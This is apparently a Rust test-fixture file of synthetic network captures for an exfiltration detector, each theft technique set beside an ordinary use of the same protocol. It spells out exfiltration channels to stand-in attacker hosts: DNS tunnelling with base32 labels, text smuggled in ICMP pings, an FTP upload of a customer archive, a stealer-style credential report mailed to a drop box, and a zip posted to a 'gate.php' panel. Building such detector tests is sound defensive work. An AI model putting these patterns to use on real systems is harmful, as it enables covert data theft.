//! What two hosts may say to one another, each theft beside an ordinary use of the same protocol:
//! told from a file and over a wire, a scene must come to the same.

use crate::conversation::{Conversation, dns_answer, dns_query};

/// Name, capture, and the technique it is found as; none where it is ordinary.
pub type Scene = (&'static str, fn() -> Conversation, Option<&'static str>);

pub const SCENES: [Scene; 12] = [
    ("unknown_upload", unknown_upload, Some("bulk_upload")),
    ("unknown_download", unknown_download, None),
    ("names_with_content", names_with_content, Some("dns_tunnel")),
    ("ordinary_names", ordinary_names, None),
    ("pings_with_text", pings_with_text, Some("icmp_tunnel")),
    ("ordinary_pings", ordinary_pings, None),
    ("file_upload", file_upload, Some("clear_upload")),
    ("file_download", file_download, None),
    ("mail_to_oneself", mail_to_oneself, Some("clear_upload")),
    ("mail_to_a_friend", mail_to_a_friend, None),
    ("archive_to_a_bare_address", archive_to_a_bare_address, Some("clear_upload")),
    ("form_on_a_site", form_on_a_site, None),
];

/// Bytes without a pattern, the same each time (a linear congruence of Knuth's).
fn noise(length: usize, seed: u64) -> Vec<u8> {
    let mut state = seed;
    let mut byte = || {
        state =
            state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as u8
    };
    (0..length).map(|_| byte()).collect()
}

/// `bytes` in the letters that names may have (RFC 4648, section 6).
fn base32(bytes: &[u8]) -> String {
    bytes
        .iter()
        .map(|byte| char::from(b"abcdefghijklmnopqrstuvwxyz234567"[usize::from(byte & 31)]))
        .collect()
}

fn unknown_upload() -> Conversation {
    let mut talk = Conversation::tcp(4444);
    talk.upload(&noise(200_000, 1));
    talk
}

pub fn unknown_download() -> Conversation {
    let mut talk = Conversation::tcp(4444);
    talk.send(b"get it\n");
    talk.download(&noise(200_000, 1));
    talk
}

fn names_with_content() -> Conversation {
    let mut talk = Conversation::udp(53);
    for number in 0..40 {
        let labels: Vec<String> = noise(120, number).chunks(40).map(base32).collect();
        let name = format!("{}.t.drop.example", labels.join("."));
        talk.send(&dns_query(&name, 16));
        talk.receive(&dns_answer(&name, 16, b"\x08received"));
        talk.wait_ms(200);
    }
    talk
}

fn ordinary_names() -> Conversation {
    let mut talk = Conversation::udp(53);
    for number in 0..200_u8 {
        let host = ["www", "cdn", "mail", "api", "static"][usize::from(number % 5)];
        let name = format!("{host}.{}shop.example", char::from(b'a' + number % 26));
        talk.send(&dns_query(&name, 1));
        talk.receive(&dns_answer(&name, 1, &[192, 0, 2, number]));
        talk.wait_ms(50);
    }
    talk
}

const TEXT: &str = "Dear all, the offer to the ministry stands at four million, the others know \
    nothing of it, and the passwords of the three servers are still what they were last year. \
    Burn this letter after you have read it, and tell nobody who wrote it to you.";

fn pings_with_text() -> Conversation {
    let mut talk = Conversation::icmp();
    for part in TEXT.as_bytes().chunks(50) {
        talk.send(part);
        talk.receive(part);
        talk.wait_ms(1_000);
    }
    talk
}

fn ordinary_pings() -> Conversation {
    let mut talk = Conversation::icmp();
    for number in 0..20_u8 {
        let mut payload = vec![number; 16];
        payload.extend(16..56_u8);
        talk.send(&payload);
        talk.receive(&payload);
        talk.wait_ms(1_000);
    }
    talk
}

fn file_transfer(command: &str, act: fn(&mut Conversation, &[u8])) -> Conversation {
    let mut talk = Conversation::tcp(21);
    talk.receive(b"220 FTP server ready\r\n");
    for (line, reply) in [
        ("USER web\r\n", "331 Password\r\n"),
        ("PASS x\r\n", "230 Logged in\r\n"),
        ("PASV\r\n", "227 Entering Passive Mode (203,0,113,5,195,80)\r\n"),
        (command, "150 Ok\r\n"),
    ] {
        talk.send(line.as_bytes());
        talk.receive(reply.as_bytes());
    }
    talk.connect(195 << 8 | 80);
    act(&mut talk, &noise(20_000, 3));
    talk
}

pub fn file_upload() -> Conversation {
    file_transfer("STOR customers.zip\r\n", Conversation::upload)
}

fn file_download() -> Conversation {
    file_transfer("RETR manual.pdf\r\n", Conversation::download)
}

fn mail(lines: &[&str]) -> Conversation {
    let mut talk = Conversation::tcp(587);
    talk.receive(b"220 mail.example ESMTP\r\n");
    for line in lines {
        talk.send(line.as_bytes());
        talk.receive(if line.starts_with("DATA") { b"354 Go on\r\n" } else { b"250 Ok\r\n" });
    }
    talk
}

fn mail_to_oneself() -> Conversation {
    mail(&[
        "EHLO DESKTOP-4F6G7H8\r\n",
        "AUTH LOGIN\r\n",
        "Ym94QGRyb3AuZXhhbXBsZQ==\r\n",
        "c2VjcmV0\r\n",
        "MAIL FROM:<box@drop.example>\r\n",
        "RCPT TO:<box@drop.example>\r\n",
        "DATA\r\n",
        "From: box@drop.example\r\nTo: box@drop.example\r\nSubject: PW_anna/DESKTOP-4F6G7H8\r\n\r\n\
         Time: 11/21/2026\r\nUser Name: anna\r\nComputer Name: DESKTOP-4F6G7H8\r\nCPU: x\r\nRAM: 8 GB\r\n\
         URL: https://bank.example\r\nUsername: anna\r\nPassword: 1234\r\nApplication: Chrome\r\n.\r\n",
    ])
}

fn mail_to_a_friend() -> Conversation {
    mail(&[
        "EHLO [192.168.1.5]\r\n",
        "MAIL FROM:<anna@home.example>\r\n",
        "RCPT TO:<bert@work.example>\r\n",
        "DATA\r\n",
        "From: anna@home.example\r\nTo: bert@work.example\r\nSubject: Sunday\r\nUser-Agent: Mozilla Thunderbird\r\n\
         \r\nDear Bert, shall we go for a walk on Sunday? Yours, Anna\r\n.\r\n",
    ])
}

fn post(headers: &str, body: &[u8]) -> Conversation {
    let mut talk = Conversation::tcp(80);
    talk.send(
        &[headers.as_bytes(), format!("Content-Length: {}\r\n\r\n", body.len()).as_bytes()]
            .concat(),
    );
    talk.upload(body);
    talk.receive(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
    talk
}

fn archive_to_a_bare_address() -> Conversation {
    let form = b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"x.zip\"\r\n\r\nPK\x03\x04";
    post(
        "POST /gate.php HTTP/1.1\r\nHost: 203.0.113.5\r\nContent-Type: multipart/form-data; boundary=b\r\n",
        &[&form[..], &noise(30_000, 4)].concat(),
    )
}

fn form_on_a_site() -> Conversation {
    post(
        "POST /contact HTTP/1.1\r\nHost: www.shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; \
         rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept-Language: en-GB\r\nReferer: http://www.shop.example/\r\n\
         Cookie: session=1\r\nContent-Type: application/x-www-form-urlencoded\r\n",
        b"name=Anna&message=Do+you+have+this+in+blue+too",
    )
}
